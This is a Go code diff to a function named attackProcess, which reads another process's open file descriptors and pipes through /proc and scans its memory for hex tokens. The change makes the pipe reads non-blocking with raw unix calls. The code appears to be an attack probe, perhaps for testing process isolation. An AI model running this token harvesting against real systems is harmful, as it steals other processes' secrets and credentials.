@@ -153,20 +153,22 @@ func attackProcess(pid int, add func(tok, from string)) {
 	if err != nil {
 		fmt.Printf("pid %d fds: %v\n", pid, err)
 	}
-	for _, fd := range fds {
-		p := dir + "/fd/" + fd.Name()
+	for _, ent := range fds {
+		p := dir + "/fd/" + ent.Name()
 		link, _ := os.Readlink(p)
-		f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK, 0)
+		// Raw calls: an *os.File of a pipe waits in Go's poller even when
+		// opened non-blocking, and a task's output pipe may never get data.
+		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
 		if err != nil {
 			continue
 		}
 		b := make([]byte, 4096)
-		n, _ := f.Read(b)
-		f.Close()
+		n, _ := unix.Read(fd, b)
+		_ = unix.Close(fd)
 		for _, tok := range hexToken.FindAll(b[:max(n, 0)], -1) {
-			add(string(tok), fmt.Sprintf("pid %d fd %s (%s)", pid, fd.Name(), link))
+			add(string(tok), fmt.Sprintf("pid %d fd %s (%s)", pid, ent.Name(), link))
 		}
-		fmt.Printf("pid %d fd %s (%s): opened, read %d bytes\n", pid, fd.Name(), link, max(n, 0))
+		fmt.Printf("pid %d fd %s (%s): opened, read %d bytes\n", pid, ent.Name(), link, max(n, 0))
 	}
 	if n, err := scanMemory(pid, add); err != nil {
 		fmt.Printf("pid %d mem: %v\n", pid, err)
